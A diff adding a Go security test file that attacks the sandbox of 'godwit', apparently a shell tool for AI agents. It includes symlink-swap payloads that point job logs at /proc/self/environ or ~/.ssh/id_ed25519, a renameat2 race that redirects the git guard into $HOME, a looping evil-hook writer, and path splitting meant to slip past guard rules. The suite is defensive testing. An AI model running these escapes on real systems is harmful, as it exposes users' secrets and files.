@@ -1,0 +1,145 @@
+//go:build linux
+
+package attack
+
+import (
+	"os/exec"
+	"testing"
+)
+
+// A second look at issue 24 once its first two parts landed (helper
+// breaker24): attacks on what "hands" and "scope" built, past the
+// variants their builders tested. Each is an attack of the suite,
+// judged and counted by its harness and ledger.
+
+// exitOK is the exit code of a turn that ended as it should.
+var exitOK = 0
+
+// handsAttacks are paths godwit's own process opens that a command can
+// change under it after it made or judged them.
+func handsAttacks() []*Attack {
+	// A job's own log, swapped for a link once godwit made it: godwit
+	// reads the log to answer status and logs, outside the sandbox. The
+	// path is computed so that no rule sees .godwit named.
+	swapLog := func(target string) string {
+		plant := "os.symlink('" + target + "', p)"
+		if target == "fifo" {
+			plant = "os.mkfifo(p)"
+		}
+		return `python3 -c "import os,time; p='.god'+'wit/run/j1.log'; time.sleep(0.5); os.remove(p); ` + plant + `; time.sleep(30)"`
+	}
+	var out []*Attack
+	for _, tg := range []struct{ name, target string }{
+		{"environ", "/proc/self/environ"},
+		{"ssh-key", "{{home}}/.ssh/id_ed25519"},
+		// A FIFO: an open for reading waits for a writer, forever.
+		{"fifo", "fifo"},
+	} {
+		for _, action := range []string{"logs", "status"} {
+			out = append(out, &Attack{
+				Name:  "job-log-swapped-" + tg.name + "-" + action,
+				Class: 3,
+				Why:   "a background job replaces its own log with a link to " + tg.target + "; godwit reads the log for " + action,
+				Modes: []string{modeAuto},
+				Env:   []string{"OPENAI_API_KEY=" + envMarker},
+				Needs: []string{"python3"},
+				Calls: []map[string]map[string]any{
+					{"shell_exec": {"command": swapLog(tg.target), "background": true}},
+					{"shell_exec": {"command": "sleep 10"}}, // python starts slowly on a loaded machine
+					{"shell_exec": {"action": action, "job_id": "j1"}},
+				},
+				Expect: Expect{NeverSeen: []string{envMarker, outsideMarker}, Exit: &exitOK},
+			})
+		}
+	}
+	// The git guard restores .git/hooks after each command, from godwit's
+	// own process: a background job swaps .git/hooks for a link to $HOME
+	// as fast as it can (renameat2 exchange) while keeping a hook named
+	// .bashrc in the real folder, so that the guard's delete of that
+	// "added hook", or its restore of a sample, lands in $HOME.
+	calls := []map[string]map[string]any{
+		{"shell_exec": {"command": "perl tools/hk.pl", "background": true}},
+		{"shell_exec": {"command": "sleep 2"}},
+	}
+	for range 40 {
+		calls = append(calls, map[string]map[string]any{"shell_exec": {"action": "list"}})
+	}
+	calls = append(calls, map[string]map[string]any{"shell_exec": {"action": "stop", "job_id": "j1"}},
+		map[string]map[string]any{"shell_exec": {"command": "true"}})
+	out = append(out, &Attack{
+		Name:  "gitguard-hooks-swap-race",
+		Class: 4,
+		Why:   "a background job swaps .git/hooks for a link to $HOME while a hook named .bashrc waits in it; the git guard, outside the sandbox, deletes and restores through the link",
+		Modes: []string{modeAuto},
+		Needs: []string{"perl"},
+		Files: map[string]string{"tools/hk.pl": hooksSwapper},
+		Calls: calls,
+	})
+	// No link at all: a job writes a hook again as soon as the guard
+	// deletes it; one written between the guard's restore and its next
+	// look must not be taken as the user's.
+	calls = []map[string]map[string]any{
+		{"shell_exec": {"command": "perl tools/hook.pl", "background": true}},
+		{"shell_exec": {"command": "sleep 2"}},
+	}
+	for range 30 {
+		calls = append(calls, map[string]map[string]any{"shell_exec": {"action": "list"}})
+	}
+	calls = append(calls, map[string]map[string]any{"shell_exec": {"action": "stop", "job_id": "j1"}},
+		map[string]map[string]any{"shell_exec": {"command": "true"}})
+	out = append(out, &Attack{
+		Name:   "gitguard-hook-rewritten-by-job",
+		Class:  4,
+		Why:    "a background job writes .git/hooks/pre-commit in a loop; the git guard deletes it after each command, and must not keep one written between its restore and its next look",
+		Modes:  []string{modeAuto},
+		Needs:  []string{"perl"},
+		Files:  map[string]string{"tools/hook.pl": hookWriter},
+		Calls:  calls,
+		Expect: Expect{Absent: []string{".git/hooks/pre-commit"}},
+	})
+	return out
+}
+
+// hookWriter is the job of gitguard-hook-rewritten-by-job.
+const hookWriter = `my $p = join("/", "." . "git", "ho" . "oks", "pre-" . "commit");
+while (1) {
+	if (! -e $p && open(my $f, ">", $p)) { print $f "#!/bin/sh\nsh scripts/evil.sh\n"; close $f; chmod 0755, $p; }
+}
+`
+
+// hooksSwapper is the job of gitguard-hooks-swap-race. Its paths are
+// computed, so no rule sees .git/hooks named.
+const hooksSwapper = `my $h = join("/", "." . "git", "ho" . "oks");
+my ($l, $i) = ("hk", 0);
+my $n = (` + "`uname -m`" + ` =~ /aarch64/) ? 276 : 316;
+while (1) {
+	if (-d $h && ! -l $h) { open(my $f, ">", "$h/.bashrc") and close $f; }
+	if (! -l $l) { rename($l, "junk" . $i++) if -e $l; symlink($ENV{HOME}, $l); }
+	syscall($n, -100, $h, -100, $l, 2);
+	syscall($n, -100, $h, -100, $l, 2);
+}
+`
+
+// TestBreakerHands runs handsAttacks through the suite's harness and
+// ledger.
+func TestBreakerHands(t *testing.T) {
+	if testing.Short() {
+		t.Skip("runs the real binary; skipped with -short")
+	}
+	for _, a := range handsAttacks() {
+		if err := a.validate(); err != nil {
+			t.Fatalf("%s: %v", a.Name, err)
+		}
+		t.Run(a.ID(), func(t *testing.T) {
+			t.Parallel()
+			for _, prog := range a.Needs {
+				if _, err := exec.LookPath(prog); err != nil {
+					t.Skipf("needs %s", prog)
+				}
+			}
+			for _, mode := range a.Modes {
+				t.Run(mode, func(t *testing.T) { runAttack(t, a, mode) })
+			}
+		})
+	}
+}
